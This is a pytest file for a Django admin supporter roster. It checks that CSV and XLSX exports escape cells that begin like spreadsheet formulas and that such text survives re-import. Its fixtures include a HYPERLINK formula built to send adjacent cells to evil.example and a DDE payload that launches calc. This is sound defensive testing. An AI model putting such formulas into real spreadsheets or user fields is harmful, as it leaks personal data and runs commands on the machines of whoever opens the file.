"""Roster export: no cell a supporter or staff member wrote runs as a formula, and such text imports back exactly."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from directory.import_formats import FORMULA_STARTS, ROSTER_COLUMNS, csv_safe, undo_csv_safe
from directory.models import PeerSupporter

# The town from the security review: it would send the cells next to it to another site when the sheet is opened.
HYPERLINK = '=HYPERLINK("https://evil.example/?"&G3&I3,"Oslo")'

pytestmark = pytest.mark.usefixtures("english_admin")


def export(client, file_format):
    """The supporter admin's export as the staff member's browser downloads it: CSV (0) or XLSX (1)."""
    fields = {f"peersupporterresource_{column}": "on" for column in ROSTER_COLUMNS}
    response = client.post(
        reverse("admin:directory_peersupporter_export"), {"format": file_format, "resource": 0, **fields}
    )
    assert response.status_code == 200
    return response.content


def csv_rows(data):
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def xlsx_rows(data):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    headers = [cell.value for cell in sheet[1]]
    return [dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(2, values_only=True)]


def import_preview(client, data, file_name):
    upload = io.BytesIO(data)
    upload.name = file_name
    url = reverse("admin:directory_peersupporter_import")
    return client.post(url, {"import_file": upload, "format": 0 if file_name.endswith(".csv") else 1, "resource": 0})


@pytest.fixture
def hyperlink_town(roles):
    roles.oslo.town = HYPERLINK
    roles.oslo.save()
    return roles.oslo


def test_a_formula_a_supporter_wrote_is_text_in_the_csv_export(roles, hyperlink_town):
    [row] = csv_rows(export(roles.clients["oslo_coordinator"], 0))
    assert row["town"] == "'" + HYPERLINK


def test_a_formula_a_supporter_wrote_is_text_in_the_xlsx_export(roles, hyperlink_town):
    [row] = xlsx_rows(export(roles.clients["oslo_coordinator"], 1))
    assert row["town"] == "'" + HYPERLINK


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_no_cell_of_an_exported_workbook_is_a_formula(roles, make_supporter, start):
    make_supporter(
        name=f"{start}Navn", title=f"{start}1+1", town=f"{start}SUM(A1:A9)", note=f"{start}cmd|' /C calc'!A0"
    )
    make_supporter(name="E-post", email=f"{start}post@example.org" if start in "=+-" else "post@example.org")
    workbook = openpyxl.load_workbook(io.BytesIO(export(roles.clients["administrator"], 1)))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert len(cells) == (1 + PeerSupporter.objects.count()) * len(ROSTER_COLUMNS)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [text for text in texts if text[:1] in FORMULA_STARTS] == []


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_no_cell_of_an_exported_csv_file_starts_a_formula(roles, make_supporter, start):
    make_supporter(name=f"{start}Navn", title=f"{start}1+1", town=f"{start}SUM(A1:A9)", note=f"{start}x")
    rows = csv_rows(export(roles.clients["administrator"], 0))
    assert [value for row in rows for value in row.values() if value[:1] in FORMULA_STARTS] == []
    assert any(row["note"] == f"'{start}x" for row in rows)


@pytest.mark.parametrize(
    ("note", "file_format", "file_name"),
    [
        ("- Ring etter kl. 16.\n- Ikke i helgene.", 0, "roster.csv"),
        ("- Ring etter kl. 16.\n- Ikke i helgene.", 1, "roster.xlsx"),
        ("=2+2 er fire", 0, "roster.csv"),
        ("=2+2 er fire", 1, "roster.xlsx"),
        # Text that looks escaped already keeps its own apostrophe.
        ("'=2+2 med apostrof", 0, "roster.csv"),
        ("''-to apostrofer", 1, "roster.xlsx"),
    ],
)
def test_text_that_starts_like_a_formula_survives_export_and_import_exactly(
    roles, make_supporter, note, file_format, file_name
):
    supporter = make_supporter(name="=Nora Null", title="@Overlege", town=HYPERLINK, note=note, phone="+4722123456")
    client = roles.clients["administrator"]
    before = list(PeerSupporter.objects.order_by("pk").values())

    preview = import_preview(client, export(client, file_format), file_name)
    assert {row.outcome for row in preview.context["roster_report"].rows} == {"skip"}
    response = client.post(
        reverse("admin:directory_peersupporter_process_import"), preview.context["confirm_form"].initial
    )

    assert response.status_code == 302
    assert list(PeerSupporter.objects.order_by("pk").values()) == before
    supporter.refresh_from_db()
    assert (supporter.name, supporter.title, supporter.town, supporter.note) == (
        "=Nora Null",
        "@Overlege",
        HYPERLINK,
        note,
    )
    assert supporter.phone.as_e164 == "+4722123456"


def test_an_edited_export_keeps_text_that_starts_like_a_formula(roles, make_supporter):
    supporter = make_supporter(name="Nora Null", town="-Oslo", note="=Notat", phone="+4722123456")
    client = roles.clients["administrator"]
    rows = csv_rows(export(client, 0))
    for row in rows:
        if row["id"] == str(supporter.pk):
            row["title"] = "Fastlege"
    stream = io.StringIO()
    writer = csv.DictWriter(stream, fieldnames=list(rows[0]), delimiter=";")
    writer.writeheader()
    writer.writerows(rows)

    preview = import_preview(client, stream.getvalue().encode(), "roster.csv")
    assert sorted(row.outcome for row in preview.context["roster_report"].rows) == ["skip", "skip", "update"]
    client.post(reverse("admin:directory_peersupporter_process_import"), preview.context["confirm_form"].initial)

    supporter.refresh_from_db()
    assert (supporter.title, supporter.town, supporter.note) == ("Fastlege", "-Oslo", "=Notat")
    assert supporter.phone.as_e164 == "+4722123456"


@given(st.text(alphabet=st.sampled_from([*FORMULA_STARTS, "'", "a", " ", "1"]), max_size=6) | st.text())
def test_escaping_never_leaves_a_formula_and_is_undone_exactly(text):
    escaped = csv_safe(text)
    assert escaped[:1] not in FORMULA_STARTS
    assert undo_csv_safe(escaped) == text


def test_text_that_needs_no_escaping_is_left_as_it_is():
    for value in ("Oslo", "Øystein", "'sitat'", "a=b", "", None, 12, -5):
        assert csv_safe(value) == value
        assert undo_csv_safe(value) == value
